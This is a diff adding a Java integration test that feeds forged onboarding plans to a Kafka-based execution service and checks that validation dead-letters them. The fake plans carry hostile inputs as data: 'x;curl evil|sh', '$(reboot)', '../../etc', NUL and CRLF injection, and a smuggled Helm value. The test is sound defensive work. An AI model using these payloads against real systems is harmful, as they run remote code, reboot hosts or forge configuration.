@@ -152,6 +152,94 @@ class DryRunExecutionTest {
         }
     }
 
+    /**
+     * Plans anyone with write access to a plan topic could forge: ids that carry shell syntax, a path, 10,000
+     * characters or a NUL, a parameter that would add a Helm value, a cluster parameter that points elsewhere than the
+     * target, an unknown capability, oversized headers. Each is dead-lettered with a reason naming the field, none
+     * reaches the worker pool (no execution exists for it), and a good plan sent after them still succeeds.
+     */
+    @Test
+    void hostilePlansAreDeadLetteredWithTheirReasonAndNeverExecuted() throws Exception {
+        String key = "hostile-" + UUID.randomUUID().toString().substring(0, 8);
+        ConsumerTask<String, String> vmDlq = kafka.consumeStrings().fromTopics(Topics.deadLetter(Topics.PLANS_COMPANION_VM));
+        ConsumerTask<String, String> arcDlq = kafka.consumeStrings().fromTopics(Topics.deadLetter(Topics.PLANS_ARC_K8S));
+        Map<String, String> vmParams = Map.of("clusterId", "lyon", "hostNode", "worker-1");
+        List<OnboardingPlan> vmPlans = List.of(
+                plan(Route.COMPANION_VM, new Target(TargetKind.NODE, "x;curl evil|sh"), List.of(), vmParams),
+                plan(Route.COMPANION_VM, new Target(TargetKind.NODE, "lyon/worker-1"), List.of(),
+                        Map.of("clusterId", "../../etc", "hostNode", "worker-1")),
+                plan(Route.COMPANION_VM, new Target(TargetKind.NODE, "lyon/worker-1"), List.of(),
+                        Map.of("clusterId", "lyon", "hostNode", "worker\0-1")),
+                plan(Route.COMPANION_VM, new Target(TargetKind.NODE, "lyon/worker-1"), List.of(),
+                        Map.of("clusterId", "lyon", "hostNode", "$(reboot)")),
+                plan(Route.COMPANION_VM, new Target(TargetKind.NODE, "lyon/worker-1"), List.of(),
+                        Map.of("clusterId", "lyon", "hostNode", "worker-1", "site", "lab\nFORGED")));
+        List<OnboardingPlan> arcPlans = List.of(
+                plan(Route.ARC_K8S, new Target(TargetKind.CLUSTER, "c".repeat(10_000)), List.of(Capability.GITOPS)),
+                plan(Route.ARC_K8S, new Target(TargetKind.CLUSTER, "ghent-line3"), List.of(Capability.GITOPS),
+                        Map.of("distribution", "k3s,global.resourceName=evil")),
+                plan(Route.ARC_K8S, new Target(TargetKind.CLUSTER, "ghent-line3"), List.of(Capability.GITOPS),
+                        Map.of("clusterId", "platform-own-cluster")),
+                plan(Route.ARC_K8S, new Target(TargetKind.NODE, "ghent-line3"), List.of(Capability.GITOPS)),
+                new OnboardingPlan(UUID.randomUUID().toString(), "corr-1\r\nFORGED",
+                        Instant.now(), UUID.randomUUID().toString(), "r1", Route.ARC_K8S,
+                        new Target(TargetKind.CLUSTER, "ghent-line3"), List.of(), List.of(), List.of(), null, "p", Map.of()));
+        List<ProducerRecord<String, String>> records = new java.util.ArrayList<>();
+        for (OnboardingPlan plan : vmPlans) {
+            records.add(keyed(PlanRecords.of(Topics.PLANS_COMPANION_VM, plan, mapper.writeValueAsString(plan)), key));
+        }
+        for (OnboardingPlan plan : arcPlans) {
+            records.add(keyed(PlanRecords.of(Topics.PLANS_ARC_K8S, plan, mapper.writeValueAsString(plan)), key));
+        }
+        // an unknown capability, and a good plan's JSON under a ce_id no column holds and a header of 100 kB
+        OnboardingPlan unknownCapability = plan(Route.ARC_K8S, new Target(TargetKind.CLUSTER, "ghent-line3"), List.of());
+        records.add(keyed(PlanRecords.of(Topics.PLANS_ARC_K8S, unknownCapability, mapper.writeValueAsString(unknownCapability)
+                .replace("\"capabilities\":[]", "\"capabilities\":[\"ROOTKIT\"]")), key));
+        OnboardingPlan longEventId = plan(Route.ARC_K8S, new Target(TargetKind.CLUSTER, "ghent-line3"), List.of());
+        ProducerRecord<String, String> longId = keyed(PlanRecords.of(Topics.PLANS_ARC_K8S, longEventId,
+                mapper.writeValueAsString(longEventId)), key);
+        longId.headers().remove(EventTypes.CE_ID).add(EventTypes.CE_ID, "e".repeat(300).getBytes(StandardCharsets.UTF_8));
+        records.add(longId);
+        OnboardingPlan bigHeader = plan(Route.ARC_K8S, new Target(TargetKind.CLUSTER, "ghent-line3"), List.of());
+        ProducerRecord<String, String> big = keyed(PlanRecords.of(Topics.PLANS_ARC_K8S, bigHeader,
+                mapper.writeValueAsString(bigHeader)), key);
+        big.headers().add("x-padding", new byte[100_000]);
+        records.add(big);
+        kafka.produceStrings().fromRecords(records).awaitCompletion();
+
+        OnboardingPlan good = plan(Route.ARC_K8S, new Target(TargetKind.CLUSTER, key + "-good"), List.of(Capability.POLICY));
+        send(Topics.PLANS_ARC_K8S, good);
+        OnboardingPlan goodVm = plan(Route.COMPANION_VM, new Target(TargetKind.NODE, "lyon/" + key + "-vm"), List.of(),
+                Map.of("clusterId", "lyon", "hostNode", key + "-vm", "site", "lyon"));
+        send(Topics.PLANS_COMPANION_VM, goodVm);
+
+        await().atMost(Duration.ofSeconds(60)).untilAsserted(() -> {
+            List<String> vmReasons = reasons(vmDlq, key);
+            List<String> arcReasons = reasons(arcDlq, key);
+            assertThat(vmReasons).as("companion-vm dead letters").hasSize(vmPlans.size());
+            assertThat(arcReasons).as("arc-k8s dead letters").hasSize(arcPlans.size() + 3);
+            assertThat(String.join("\n", vmReasons)).contains("target.id").contains("parameters.clusterId")
+                    .contains("parameters.hostNode").contains("parameters.site").doesNotContain("\0");
+            assertThat(String.join("\n", arcReasons)).contains("target.id").contains("parameters.distribution")
+                    .contains("parameters.clusterId").contains("target.kind").contains("ce_correlationid")
+                    .contains("ROOTKIT").contains("ce_id").contains("headers").doesNotContain("\r\n");
+            RestAssured.get("/api/v1/executions/" + good.planId()).then().statusCode(200).body("state", equalTo("SUCCEEDED"));
+            RestAssured.get("/api/v1/executions/" + goodVm.planId()).then().statusCode(200).body("state", equalTo("SUCCEEDED"));
+        });
+        for (OnboardingPlan hostile : java.util.stream.Stream.of(vmPlans, arcPlans, List.of(unknownCapability, longEventId,
+                bigHeader)).flatMap(List::stream).toList()) {
+            RestAssured.get("/api/v1/executions/" + hostile.planId()).then().statusCode(404);
+        }
+        vmDlq.close();
+        arcDlq.close();
+    }
+
+    private static List<String> reasons(ConsumerTask<String, String> dlq, String key) {
+        return dlq.getRecords().stream().filter(r -> key.equals(r.key()))
+                .map(r -> new String(r.headers().lastHeader("dead-letter-reason").value(), StandardCharsets.UTF_8))
+                .toList();
+    }
+
     private static ProducerRecord<String, String> keyed(ProducerRecord<String, String> record, String key) {
         return new ProducerRecord<>(record.topic(), null, key, record.value(), record.headers());
     }
@@ -173,9 +261,13 @@ class DryRunExecutionTest {
     }
 
     private OnboardingPlan plan(Route route, Target target, List<Capability> capabilities) {
+        return plan(route, target, capabilities, Map.of("distribution", "k3s"));
+    }
+
+    private OnboardingPlan plan(Route route, Target target, List<Capability> capabilities, Map<String, String> parameters) {
         return new OnboardingPlan(UUID.randomUUID().toString(), "corr-" + UUID.randomUUID(), Instant.now(),
                 UUID.randomUUID().toString(), "r1", route, target, List.of(target.id()), capabilities, List.of(), null,
-                "2026-11-24.1", Map.of("distribution", "k3s"));
+                "2026-11-24.1", parameters);
     }
 
     private void send(String topic, OnboardingPlan plan) throws Exception {
